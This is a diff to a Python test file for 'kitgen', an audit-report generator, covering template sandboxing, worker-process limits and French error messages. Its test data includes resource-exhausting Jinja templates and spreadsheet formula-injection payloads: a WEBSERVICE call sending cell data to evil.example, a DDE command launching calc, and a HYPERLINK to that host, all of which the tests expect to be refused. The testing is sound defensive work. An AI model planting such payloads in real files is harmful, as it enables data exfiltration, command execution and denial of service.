@@ -19,7 +19,7 @@ from kitgen.jobs.harvest import harvest
 from kitgen.project import load_project
 
 from .conftest import ROOT, SAMPLE_FR
-from .helpers import add_report_row, fill_row, findings_table, no_hang
+from .helpers import add_report_row, fill_row, findings_table, no_hang, word_template
 
 EXHAUSTING = [
     "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
@@ -36,29 +36,21 @@ EXHAUSTING = [
     "{% set s = namespace(x='x') %}{% for i in range(60) %}{% set s.x = s.x ~ s.x %}{% endfor %}{{ s.x|length }}",
     "{{ 'x' * 200000 }}",
 ]
-MISTAKES = [
-    ("{% include 'other.docx' %}", "single files"),
-    ("{% import 'macros.docx' as m %}", "single files"),
-    ("{% extends 'base.docx' %}", "single files"),
-    ("{% from 'macros.docx' import m %}", "single files"),
+MISTAKES = [  # the French sample: its messages are French (Python's own words only as a detail)
+    ("{% include 'other.docx' %}", "un modèle tient dans un seul fichier"),
+    ("{% import 'macros.docx' as m %}", "un modèle tient dans un seul fichier"),
+    ("{% extends 'base.docx' %}", "un modèle tient dans un seul fichier"),
+    ("{% from 'macros.docx' import m %}", "un modèle tient dans un seul fichier"),
     ("{{ 1/0 }}", "ZeroDivisionError"),
     ("{{ 'a' + 1 }}", "TypeError"),
-    ("{{ 'x'.encode('rot13') }}", "not available in templates"),
-    ("{{ 'a b'|wordwrap(0) }}", "positive width"),
+    ("{{ 'x'.encode('rot13') }}", "modèles : `.encode()` n'est pas disponible dans les modèles"),
+    ("{{ 'a b'|wordwrap(0) }}", "modèles : `|wordwrap` demande une largeur positive"),
     ("{{ '%d' % 'x' }}", "TypeError"),
     ("{{ range(1, 2, 0) }}", "ValueError"),
     ("{{ " + "9" * 5000 + " }}", "ValueError"),
-    ("{{ audit.titel }}", "unknown variable 'titel'"),
-    ("{% for x in %}", "syntax error"),
+    ("{{ audit.titel }}", "variable inconnue 'titel'"),
+    ("{% for x in %}", "erreur de syntaxe dans le modèle"),
 ]
-
-
-def word_template(folder: Path, text: str) -> Path:
-    folder.mkdir(parents=True, exist_ok=True)
-    doc = Document()
-    doc.add_paragraph(text)
-    doc.save(str(folder / "audit-report.docx"))
-    return folder
 
 
 @pytest.fixture
@@ -122,13 +114,13 @@ def formula_template(folder: Path, formula: str) -> Path:
     ('=WEBSERVICE("http://evil.example/?"&A1)', "WEBSERVICE"),
     ("=cmd|' /C calc'!A0", "DDE"),
     ('=HYPERLINK("http://evil.example","click")', "HYPERLINK"),
-    ("=[1]Sheet1!A1", "another workbook"),
+    ("=[1]Sheet1!A1", "autre classeur"),
 ])
 def test_spreadsheet_templates_hold_only_pure_formulas(tmp_path, formula, why):
     folder = formula_template(tmp_path / "tpl", formula)
     result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "action-plan", "--templates", str(folder),
                                       "-o", str(tmp_path / "out")])
-    assert result.exit_code == 1 and "action-plan.xlsx: Synthèse!H40: formula refused" in result.stderr, result.stderr
+    assert result.exit_code == 1 and "action-plan.xlsx: Synthèse!H40: formule refusée" in result.stderr, result.stderr
     assert why in result.stderr
     check = CliRunner().invoke(cli, ["templates", "check", str(folder)])
     assert check.exit_code == 1 and "Synthèse!H40" in check.stderr
@@ -141,15 +133,26 @@ def test_pure_formulas_are_fine(tmp_path):
     assert sheet["H40"].value == "=SUM(B3:B9)+IF(C3>0,1,0)"  # kept as the template's formula, not refused or inerted
 
 
-def test_a_worker_killed_by_the_system_is_reported_as_memory():
-    """The kernel's out-of-memory killer sends SIGKILL: that is memory, not time (the CPU limit's own SIGKILL comes
-    after the child used its CPU time)."""
+def test_a_worker_killed_by_the_system_says_so():
+    """The kernel's out-of-memory killer sends SIGKILL: said as a kill by the system, not as time (the CPU limit's
+    own SIGKILL comes after the child used its CPU time); another signal (a crash) and a worker quitting without an
+    answer are each said as what they are."""
     import os
     import signal
 
     with pytest.raises(limits.LimitExceeded) as caught:
         limits.run_limited(lambda: os.kill(os.getpid(), signal.SIGKILL))
-    assert caught.value.what == "memory"
+    assert caught.value.what == "killed"
+    assert "killed by the system (SIGKILL" in caught.value.problem("t.docx").render()
+    with pytest.raises(limits.LimitExceeded) as caught:
+        # SIGUSR1 ends a process as a crash's signal does, without pytest's fault handler printing a stack dump
+        limits.run_limited(lambda: os.kill(os.getpid(), signal.SIGUSR1))
+    assert (caught.value.what, caught.value.detail) == ("signal", "SIGUSR1")
+    with pytest.raises(limits.LimitExceeded) as caught:
+        limits.run_limited(lambda: os._exit(3))
+    assert (caught.value.what, caught.value.detail) == ("exited", 3)
+    assert caught.value.problem("t.docx").render() == (
+        "t.docx: rendering stopped: its worker process ended without answering (exit status 3)")
 
 
 def test_a_runaway_worker_is_reported_as_time(fast_limits):
@@ -185,10 +188,10 @@ def built(tmp_path_factory):
     return base / "fr" / "projet.yaml", base / "out" / "audit-report-AUD-2026-01.docx"
 
 
-def harvest_one_line(project: Path, form: Path) -> str:
+def harvest_one_line(project: Path, form: Path, *options: str) -> str:
     before = project.read_bytes()
     with no_hang():
-        result = CliRunner().invoke(cli, ["harvest", str(project), str(form)])
+        result = CliRunner().invoke(cli, ["harvest", str(project), str(form), *options])
     assert result.exit_code == 1, result.output
     lines = result.stderr.splitlines()
     assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
@@ -216,8 +219,8 @@ def test_lying_zip_headers(built, tmp_path):
                 patched += 1
     assert patched == 2
     big.write_bytes(bytes(data))
-    line = harvest_one_line(project, big)
-    assert "big.docx" in line and "damaged" in line
+    line = harvest_one_line(project, big, "--lang", "en")
+    assert "big.docx" in line and "damaged zip package" in line
 
 
 def test_a_cell_spanning_two_billion_columns(built, tmp_path):
@@ -245,14 +248,14 @@ def test_a_hundred_thousand_added_rows(built, tmp_path):
            '<w:tc><w:p/></w:tc></w:tr>')
     xml = xml.replace("</w:tbl>", row * 100_000 + "</w:tbl>", 1)
     form = rezip(report, tmp_path / "rows.docx", word__document_xml=xml.encode())
-    assert "more than a kitgen form holds" in harvest_one_line(project, form)
+    assert "more than a kitgen form holds" in harvest_one_line(project, form, "--lang", "en")
 
 
 def test_huge_statements_never_reach_the_project(built, tmp_path):
     project, report = built
     form = add_report_row(report, tmp_path / "huge.docx", "x" * 100_000)   # three times what a cell holds
     line = harvest_one_line(project, form)
-    assert "more than the 32767 a cell holds" in line and "huge.docx" in line
+    assert "plus que les 32767 que contient une cellule" in line and "huge.docx" in line   # a French project
 
 
 def test_a_harvest_that_would_outgrow_the_load_limit_is_refused(built, tmp_path, monkeypatch):
@@ -269,7 +272,7 @@ def test_a_harvest_that_would_outgrow_the_load_limit_is_refused(built, tmp_path,
     monkeypatch.setattr(load_module, "MAX_PROJECT_BYTES", 300_000)
     before = project.read_bytes()
     result = CliRunner().invoke(cli, ["harvest", str(project), str(tmp_path / "many.docx")])
-    assert result.exit_code == 1 and "would grow to" in result.stderr, result.stderr
+    assert result.exit_code == 1 and "il atteindrait 0,4 Mo, plus que les 0,3 Mo" in result.stderr, result.stderr
     assert project.read_bytes() == before
 
 
@@ -308,6 +311,17 @@ def test_a_worker_does_the_files_it_is_handed_each_under_its_own_limits(fast_lim
     assert results[3] == "after"
 
 
+def test_a_template_running_away_on_every_audit_stops_the_build_with_one_line(tmp_path, fast_limits):
+    folder = word_template(tmp_path / "tpl", EXHAUSTING[0])
+    with no_hang():
+        result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "audit-report", "--templates", str(folder),
+                                          "-o", str(tmp_path / "out")])
+    assert result.exit_code == 1, result.output
+    assert result.stderr.startswith("Error: audit-report.docx: génération interrompue : elle a pris plus de temps "
+                                    "qu'un modèle n'en a droit"), result.stderr   # said in the French sample's words
+    assert len(result.stderr.splitlines()) == 1
+
+
 def test_a_file_failing_in_its_batch_stops_the_build(tmp_path):
     """The second audit's report fails (a mistake only its data reaches); the batch's first file rendered; nothing
     is written and the line names the template."""
@@ -315,5 +329,6 @@ def test_a_file_failing_in_its_batch_stops_the_build(tmp_path):
     result = CliRunner().invoke(cli, ["build", str(SAMPLE_FR), "audit-report", "--templates", str(folder),
                                       "-o", str(tmp_path / "out")])
     assert result.exit_code == 1
-    assert result.stderr == "Error: audit-report.docx: template error: ZeroDivisionError: division by zero\n"
+    # the French sample: kitgen's words in French, Python's own message as the detail
+    assert result.stderr == "Error: audit-report.docx: erreur dans le modèle : ZeroDivisionError : division by zero\n"
     assert not (tmp_path / "out").exists() or not list((tmp_path / "out").glob("*.docx"))
